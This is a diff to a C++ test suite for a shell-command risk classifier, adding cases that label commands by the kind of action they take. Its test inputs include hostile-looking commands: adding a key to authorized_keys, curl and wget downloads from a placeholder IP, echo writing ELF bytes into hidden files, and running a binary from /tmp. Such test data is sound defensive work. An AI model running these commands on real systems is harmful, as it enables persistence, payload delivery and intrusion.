@@ -87,6 +87,12 @@ TEST_CASE("shell commands: what is near, and is something else") {
   CHECK(typed("echo k >> ~/.ssh/authorized_keys") == "echo:policy_mutation");
   CHECK(typed("'curl -O http://192.0.2.1/x'").starts_with("curl -O") == false);
   CHECK(typed("echo 'wget http://192.0.2.1/x'") == "echo:read_only");
+  CHECK(typed("tftp; wget; curl") == "tftp:read_only wget:read_only curl:read_only");
+  CHECK(typed("echo -e '\\x6b\\x61\\x6d\\x69' > /.t") == "echo:filesystem_write");
+  CHECK(typed("echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00\\x00\\x00\\x00\\x00' >> .s") ==
+        "echo:filesystem_write!");
+  CHECK(typed("kill 1553") == "kill:low_risk_write");
+  CHECK(typed("/tmp/su -x") == "su:code_execution");
   CHECK(typed("x=1") == "");
   CHECK(typed("> x") == ">:filesystem_write");
   CHECK(typed("unheardof -x") == "unheardof:low_risk_write");
